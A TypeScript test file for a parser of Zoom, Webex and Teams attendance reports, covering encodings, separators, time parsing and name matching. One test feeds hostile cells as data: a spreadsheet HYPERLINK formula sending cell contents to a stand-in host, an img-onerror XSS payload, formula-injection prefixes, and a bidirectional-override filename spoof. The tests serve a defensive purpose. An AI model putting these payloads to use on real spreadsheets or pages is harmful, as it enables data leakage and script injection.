// Reading platform participant reports (issue #13, point 5): each platform's header, encodings,
// separators, hostile cells and damaged lines — pure, no database.
import { describe, expect, it } from "vitest";
import { decodeReport, detectHeader, MAX_REPORT_BYTES, parseDuration, parseReport, parseReportTime } from "@/lib/attendance/report-file.ts";
import { normalizeName, reportNameKeys, sessionOfReportRow } from "@/lib/attendance/rules.ts";

const ZONE = "Europe/Zurich";
const utf8 = (text: string) => new TextEncoder().encode(text);
const withBom = (text: string) => utf8(`\uFEFF${text}`);
const utf16le = (text: string, bom = true) =>
  new Uint8Array(Buffer.concat([bom ? Buffer.from([0xff, 0xfe]) : Buffer.alloc(0), Buffer.from(text, "utf16le")]));
const utf16be = (text: string) => {
  const le = Buffer.from(text, "utf16le");
  const be = Buffer.alloc(le.length);
  for (let index = 0; index < le.length; index += 2) {
    be[index] = le[index + 1] ?? 0;
    be[index + 1] = le[index] ?? 0;
  }
  return new Uint8Array(Buffer.concat([Buffer.from([0xfe, 0xff]), be]));
};

// Zoom's participants report: a meeting line, a blank line, then the participants.
const ZOOM = [
  "Meeting ID,Topic,Start Time,End Time,User Email,Duration (Minutes),Participants",
  "123 4567 8901,FG-QIT4N-10,11/15/2021 12:58:03 PM,11/15/2021 04:02:11 PM,host@example.org,185,3",
  "",
  "Name (Original Name),User Email,Join Time,Leave Time,Duration (Minutes),Guest,Recording Consent",
  "Ada Lovelace,ADA@example.org,11/15/2021 12:58:03 PM,11/15/2021 04:00:00 PM,182,No,Y",
  '"Doe, Jane (Jane D.)",,11/15/2021 01:05:00 PM,11/15/2021 02:05:00 PM,60,Yes,Y',
].join("\r\n");

const WEBEX = [
  "Participant Name;Attendee Email;Join Time;Leave Time;Attendance Duration;Connection Type",
  "Grace Hopper;grace@example.org;2021-11-15 13:00:00;2021-11-15 14:30:00;90 mins;Desktop app",
].join("\n");

// Teams' attendance report (new format): UTF-16LE, tab-separated, in sections.
const TEAMS = [
  "1. Summary",
  "Meeting title\tFG-QIT4N-10",
  "Attended participants\t1",
  "",
  "2. Participants",
  "Name\tFirst Join\tLast Leave\tIn-Meeting Duration\tEmail\tParticipant ID (UPN)\tRole",
  "Katherine Johnson\t11/15/21, 1:02:03 PM\t11/15/21, 3:00:00 PM\t1h 57m 57s\tkj@example.org\tkj@example.org\tAttendee",
  "",
  "3. In-Meeting Activities",
  "Name\tJoin Time\tLeave Time\tDuration\tEmail\tRole",
  "Katherine Johnson\t11/15/21, 1:02:03 PM\t11/15/21, 3:00:00 PM\t1h 57m 57s\tkj@example.org\tAttendee",
].join("\r\n");

describe("detectHeader", () => {
  it("recognises Zoom's header and where each field is", () => {
    expect(detectHeader(["Name (Original Name)", "User Email", "Join Time", "Leave Time", "Duration (Minutes)", "Guest"])).toEqual({
      platform: "zoom",
      columns: { name: 0, email: 1, joinedAt: 2, leftAt: 3, duration: 4 },
    });
  });

  it("recognises Webex's header, although Join Time is Zoom's title too", () => {
    expect(detectHeader(["Participant Name", "Attendee Email", "Join Time", "Leave Time", "Attendance Duration"])).toEqual({
      platform: "webex",
      columns: { name: 0, email: 1, joinedAt: 2, leftAt: 3, duration: 4 },
    });
  });

  it("recognises Teams' header, whatever the case and spaces of its titles", () => {
    expect(detectHeader([" name ", "FIRST JOIN", "Last Leave", "In-Meeting Duration", "Email", "Participant ID (UPN)", "Role"])).toEqual({
      platform: "teams",
      columns: { name: 0, joinedAt: 1, leftAt: 2, duration: 3, email: 4 },
    });
  });

  it("is no header without a name and a join-time column", () => {
    expect(detectHeader(["Meeting ID", "Topic", "Start Time"])).toBeNull();
    expect(detectHeader(["Name", "Email"])).toBeNull();
  });
});

describe("parseReport", () => {
  it("reads a Zoom report after its meeting line: lines, lower-cased emails, times in the meeting's zone, minutes", () => {
    const parsed = parseReport(utf8(ZOOM), ZONE);
    expect(parsed).toEqual({
      ok: true,
      platform: "zoom",
      rows: [
        {
          line: 5,
          name: "Ada Lovelace",
          email: "ada@example.org",
          joinedAt: new Date("2021-11-15T11:58:03Z"),
          leftAt: new Date("2021-11-15T15:00:00Z"),
          durationSeconds: 182 * 60,
        },
        {
          line: 6,
          name: "Doe, Jane (Jane D.)",
          email: null,
          joinedAt: new Date("2021-11-15T12:05:00Z"),
          leftAt: new Date("2021-11-15T13:05:00Z"),
          durationSeconds: 3600,
        },
      ],
    });
  });

  it("reads the same Zoom report with a UTF-8 BOM", () => {
    const parsed = parseReport(withBom(ZOOM), ZONE);
    expect(parsed.ok && parsed.rows.map((row) => row.name)).toEqual(["Ada Lovelace", "Doe, Jane (Jane D.)"]);
  });

  it("reads a Webex report separated by semicolons", () => {
    const parsed = parseReport(utf8(WEBEX), ZONE);
    expect(parsed).toMatchObject({
      ok: true,
      platform: "webex",
      rows: [
        { line: 2, name: "Grace Hopper", email: "grace@example.org", joinedAt: new Date("2021-11-15T12:00:00Z"), durationSeconds: 5400 },
      ],
    });
  });

  it("reads a Teams report in UTF-16LE with a BOM, tabs, and stops at the end of its participants section", () => {
    const parsed = parseReport(utf16le(TEAMS), ZONE);
    expect(parsed).toEqual({
      ok: true,
      platform: "teams",
      rows: [
        {
          line: 7,
          name: "Katherine Johnson",
          email: "kj@example.org",
          joinedAt: new Date("2021-11-15T12:02:03Z"),
          leftAt: new Date("2021-11-15T14:00:00Z"),
          durationSeconds: 7077,
        },
      ],
    });
  });

  it("reads UTF-16LE without a BOM and UTF-16BE with one", () => {
    for (const bytes of [utf16le(TEAMS, false), utf16be(TEAMS)]) {
      const parsed = parseReport(bytes, ZONE);
      expect(parsed.ok && parsed.rows.map((row) => row.email)).toEqual(["kj@example.org"]);
    }
  });

  it("keeps formulas and HTML in cells as the text they are", () => {
    const hostile = [
      "Name (Original Name),User Email,Join Time,Leave Time,Duration (Minutes)",
      '"=HYPERLINK(""https://evil.example/?""&A1,""click"")",x@example.org,2021-11-15 13:00,,5',
      '"<img src=x onerror=alert(1)>",+cmd@example.org,2021-11-15 13:00,,5',
      "@SUM(A1:A9),-2+3@example.org,2021-11-15 13:00,,5",
    ].join("\n");
    const parsed = parseReport(utf8(hostile), ZONE);
    expect(parsed.ok && parsed.rows.map((row) => [row.name, row.email])).toEqual([
      ['=HYPERLINK("https://evil.example/?"&A1,"click")', "x@example.org"],
      ["<img src=x onerror=alert(1)>", "+cmd@example.org"],
      ["@SUM(A1:A9)", "-2+3@example.org"],
    ]);
  });

  it("removes control characters and bidirectional overrides from names", () => {
    const text = 'Name (Original Name),User Email,Join Time\n"Eve\u202Egnp.exe\u0007",,2021-11-15 13:00\n';
    const parsed = parseReport(utf8(text), ZONE);
    expect(parsed.ok && parsed.rows[0]?.name).toBe("Eve gnp.exe");
  });

  it("refuses a damaged quote, naming the line where it fails", () => {
    const text = [
      "Participant Name;Attendee Email;Join Time",
      "A;a@example.org;2021-11-15 13:00",
      '"B;b@example.org;2021-11-15 13:00',
    ].join("\n");
    expect(parseReport(utf8(text), ZONE)).toEqual({ ok: false, problem: "malformed", line: 3, reason: "csv" });
  });

  it("refuses a row with fewer columns than the header, naming its line (after a preamble)", () => {
    const text = `${ZOOM}\r\nShort Row,11/15/2021 01:05:00 PM\r\n`;
    expect(parseReport(utf8(text), ZONE)).toEqual({ ok: false, problem: "malformed", line: 7, reason: "columns" });
  });

  it("refuses a row whose join time is not a time, naming its line", () => {
    const text = "Name (Original Name),User Email,Join Time\nAda,ada@example.org,yesterday\n";
    expect(parseReport(utf8(text), ZONE)).toEqual({ ok: false, problem: "malformed", line: 2, reason: "join-time" });
  });

  it("refuses a file with no known header, an empty file, a binary file and one above 10 MB", () => {
    expect(parseReport(utf8("a,b,c\n1,2,3\n"), ZONE)).toEqual({ ok: false, problem: "no-header" });
    expect(parseReport(new Uint8Array(), ZONE)).toEqual({ ok: false, problem: "empty" });
    expect(parseReport(new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x00, 0xff, 0xfe, 0x00, 0x80]), ZONE)).toEqual({
      ok: false,
      problem: "encoding",
    });
    expect(parseReport(new Uint8Array(MAX_REPORT_BYTES + 1), ZONE)).toEqual({ ok: false, problem: "too-large" });
  });

  it("refuses Latin-1 bytes that are not UTF-8", () => {
    expect(decodeReport(new Uint8Array([0x4a, 0x6f, 0x73, 0xe9, 0x0a]))).toBeNull();
  });
});

describe("times and durations", () => {
  it("reads ISO times with an offset as given, and wall times in the zone", () => {
    expect(parseReportTime("2021-11-15T13:00:00Z", ZONE)).toEqual(new Date("2021-11-15T13:00:00Z"));
    expect(parseReportTime("2021-11-15 13:00:00+0530", ZONE)).toEqual(new Date("2021-11-15T07:30:00Z"));
    expect(parseReportTime("2021-11-15 13:00", ZONE)).toEqual(new Date("2021-11-15T12:00:00Z"));
    expect(parseReportTime("11/15/2021 12:00:00 AM", ZONE)).toEqual(new Date("2021-11-14T23:00:00Z"));
    expect(parseReportTime("2021-02-30 13:00", ZONE)).toBeNull();
    expect(parseReportTime("13/15/2021 1:00 PM", ZONE)).toBeNull();
  });

  it("reads minutes, clocks and words as seconds", () => {
    expect(parseDuration("62")).toBe(3720);
    expect(parseDuration("1:02:03")).toBe(3723);
    expect(parseDuration("1h 2m 3s")).toBe(3723);
    expect(parseDuration("45 mins")).toBe(2700);
    expect(parseDuration("soon")).toBeNull();
  });
});

describe("matching rules", () => {
  it("compares names without accents, case or punctuation, and without Zoom's original name", () => {
    expect(normalizeName("  José GARCÍA-Pérez ")).toBe("jose garcia perez");
    expect(reportNameKeys("Ada Lovelace (Ada L.)")).toEqual(["ada lovelace ada l", "ada lovelace"]);
  });

  it("puts a row in the session whose join window holds its join time, else the one its stay overlaps, else none", () => {
    const meeting = {
      startsAt: new Date("2021-11-15T12:00:00Z"),
      endsAt: new Date("2021-11-16T15:00:00Z"),
      joinOpensMinutesBefore: 30,
      sessions: [
        { id: "day-2", startsAt: new Date("2021-11-16T12:00:00Z"), endsAt: new Date("2021-11-16T15:00:00Z") },
        { id: "day-1", startsAt: new Date("2021-11-15T12:00:00Z"), endsAt: new Date("2021-11-15T15:00:00Z") },
      ],
    };
    expect(sessionOfReportRow(meeting, { joinedAt: new Date("2021-11-15T11:40:00Z"), leftAt: null })).toEqual({ id: "day-1" });
    expect(sessionOfReportRow(meeting, { joinedAt: new Date("2021-11-16T14:59:00Z"), leftAt: null })).toEqual({ id: "day-2" });
    expect(sessionOfReportRow(meeting, { joinedAt: new Date("2021-11-16T10:00:00Z"), leftAt: new Date("2021-11-16T12:10:00Z") })).toEqual({
      id: "day-2",
    });
    expect(sessionOfReportRow(meeting, { joinedAt: new Date("2021-11-15T20:00:00Z"), leftAt: null })).toBeUndefined();
    const single = { ...meeting, sessions: [] };
    expect(sessionOfReportRow(single, { joinedAt: new Date("2021-11-16T13:00:00Z"), leftAt: null })).toEqual({ id: null });
  });
});
